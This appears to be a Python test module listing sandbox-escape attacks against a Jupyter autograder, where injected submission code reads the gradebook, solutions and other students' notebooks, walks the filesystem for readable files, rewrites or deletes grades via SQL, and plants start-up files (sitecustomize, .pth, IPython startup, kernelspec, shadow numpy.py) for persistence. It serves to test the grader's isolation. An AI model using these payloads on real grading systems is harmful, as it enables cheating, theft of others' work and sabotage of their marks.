"""Reading and writing what belongs to the grader or to others, and planting start-up files."""

from .attack import LOOT, HandIn, attack


@attack(stock="succeeds")
def reads_the_gradebook(student: HandIn) -> None:
    """It holds the source of every hidden check."""
    student.last(LOOT + f"loot(open({str(student.world.course / 'gradebook.db')!r}, 'rb').read())")


@attack(stock="succeeds")
def reads_the_sources(student: HandIn) -> None:
    """The solutions stand beside the course folder."""
    path = student.world.root / "solutions/01_vectors/vectors.ipynb"
    student.last(LOOT + f"loot(open({str(path)!r}, 'rb').read())")


@attack(stock="succeeds")
def reads_a_neighbour(student: HandIn) -> None:
    """Another student's notebook lies in the next folder."""
    path = student.world.course / "submitted/zoe/01_vectors/vectors.ipynb"
    student.last(LOOT + f"loot(open({str(path)!r}, 'rb').read())")


@attack(stock="succeeds")
def reads_every_file_it_can(student: HandIn) -> None:
    """Everything below the folder that holds the course, wherever it may be mounted."""
    student.last(
        LOOT
        + f"""
import os

places = [{str(student.world.root)!r}, os.path.expanduser("~"), "..", "/tmp", "/mnt", "/run"]
for place in places:
    for folder, _, names in os.walk(place):
        for name in names:
            path = os.path.join(folder, name)
            own = "ed/{student.student}/" in os.path.abspath(path)
            if not own and os.path.isfile(path) and os.path.getsize(path) < 2**21:
                loot(open(path, "rb").read()) if os.access(path, os.R_OK) else None
"""
    )


@attack(stock="succeeds")
def reads_beside_itself(student: HandIn) -> None:
    """The sanitised notebook in the current folder holds the hidden checks again."""
    student.last(
        LOOT
        + """
import pathlib

for path in pathlib.Path(".").rglob("*"):
    loot(path.read_bytes()) if path.is_file() else None
"""
    )


@attack(stock="succeeds")
def zeroes_everybody(student: HandIn) -> None:
    """One SQL statement, as the gradebook is a file."""
    student.first(
        f"""
        import sqlite3
        book = sqlite3.connect({str(student.world.course / "gradebook.db")!r}, timeout=2)
        book.execute("UPDATE grade SET auto_score = 0")
        book.commit()
        """
    )


@attack(stock="succeeds")
def plants_a_trigger_in_the_gradebook(student: HandIn) -> None:
    """From now on every score that is saved becomes 99."""
    student.first(
        f"""
        import sqlite3
        book = sqlite3.connect({str(student.world.course / "gradebook.db")!r}, timeout=2)
        book.execute(
            "CREATE TRIGGER gift AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL "
            "BEGIN UPDATE grade SET manual_score = 99 WHERE id = NEW.id; END"
        )
        book.commit()
        """
    )


@attack(stock="kills the run")
def deletes_the_gradebook(student: HandIn) -> None:
    """Then nobody has any marks."""
    student.first(
        f"""
        import os
        os.remove({str(student.world.course / "gradebook.db")!r})
        """
    )


@attack(stock="succeeds")
def writes_the_sources(student: HandIn) -> None:
    """An instructor who opens them later runs them."""
    path = student.world.root / "solutions/01_vectors/vectors.ipynb"
    student.first(f"open({str(path)!r}, 'a').write('planted by {student.student}')")


@attack(stock="succeeds")
def writes_the_configuration(student: HandIn) -> None:
    """Nbgrader's configuration is a program, run with the instructor's rights."""
    path = student.world.course / "nbgrader_config.py"
    student.first(f"open({str(path)!r}, 'a').write('\\n# planted by {student.student}')")


@attack(stock="succeeds")
def ruins_a_neighbour(student: HandIn) -> None:
    """Overwrites another student's work before it is graded, and graded work after."""
    course = student.world.course
    student.first(
        f"""
        for path in (
            {str(course / "submitted/zoe/01_vectors/vectors.ipynb")!r},
            {str(course / "autograded/ada/01_vectors/vectors.ipynb")!r},
        ):
            text = open(path).read()
            open(path, "w").write(text.replace("return", "return 0 *"))
        """
    )


@attack(stock="succeeds")
def puts_a_link_in_place_of_its_notebook(student: HandIn) -> None:
    """The grader writes the graded notebook through it, over somebody else's."""
    path = student.world.course / "submitted/zoe/01_vectors/vectors.ipynb"
    student.first(
        f"""
        import os
        for place in (".", "autograded/{student.student}/01_vectors"):
            if os.path.exists(place + "/vectors.ipynb"):
                os.remove(place + "/vectors.ipynb")
            if os.path.exists(place):
                os.symlink({str(path)!r}, place + "/vectors.ipynb")
        """
    )


def _plant(student: HandIn, *paths: str, content: str = "") -> None:
    """Append to each of these files, made with their folders; a refusal stops only that one."""
    student.first(
        f"""
        import os
        for path in {paths!r}:
            path = os.path.expanduser(path)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "a").write({content!r} + "\\n# planted by {student.student}\\n")
            except OSError as error:
                print(error)
        """
    )


@attack(stock="succeeds")
def plants_a_sitecustomize(student: HandIn) -> None:
    """Python runs it at every start: in the grader, and in the next student's kernel."""
    student.first(
        f"""
        import sysconfig
        path = sysconfig.get_paths()["purelib"] + "/sitecustomize.py"
        open(path, "a").write("# planted by {student.student}")
        """
    )


@attack(stock="succeeds")
def plants_a_pth_file(student: HandIn) -> None:
    """A line of a `.pth` that begins with `import` is run at every start."""
    student.first(
        f"""
        import sysconfig
        path = sysconfig.get_paths()["purelib"] + "/zzz.pth"
        open(path, "a").write("import sys  # planted by {student.student}")
        """
    )


@attack(stock="succeeds")
def plants_an_ipython_startup_file(student: HandIn) -> None:
    """IPython runs it at the start of every kernel, so every later student's checks pass."""
    lenient = "import numpy.testing; numpy.testing.assert_allclose = lambda *args, **names: None"
    place = ".ipython/profile_default/startup/00-first.py"
    _plant(student, f"~/{place}", str(student.world.root / "home" / place), content=lenient)


@attack(stock="succeeds")
def plants_a_kernelspec(student: HandIn) -> None:
    """A `python3` kernel of its own, that the next student's notebook is run with."""
    spec = '{"argv": ["/bin/true"], "display_name": "Python 3", "language": "python"}'
    place = ".local/share/jupyter/kernels/python3/kernel.json"
    _plant(student, f"~/{place}", str(student.world.root / "home" / place), content=spec)


@attack(stock="succeeds")
def plants_a_jupyter_configuration(student: HandIn) -> None:
    """Read by nbgrader and JupyterLab at their next start."""
    place = ".jupyter/nbgrader_config.py"
    _plant(student, f"~/{place}", str(student.world.root / "home" / place))


@attack(stock="succeeds")
def plants_modules_wherever_it_can_write(student: HandIn) -> None:
    """A `numpy.py` in the folder of whoever imports NumPy next: an examiner, another student."""
    student.first(
        f"""
        import os
        fake = "# planted by {student.student}\\nFraction = int"
        places = [".", "..", "/", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]
        places += [{str(student.world.root)!r}, {str(student.world.course)!r}]
        places += [line.split()[4] for line in open("/proc/self/mountinfo")]
        for place in places:
            for name in ("fractions.py", "numpy.py", "msgpack.py", "sitecustomize.py"):
                try:
                    open(os.path.join(place, name), "x").write(fake)
                except OSError:
                    pass
        """
    )
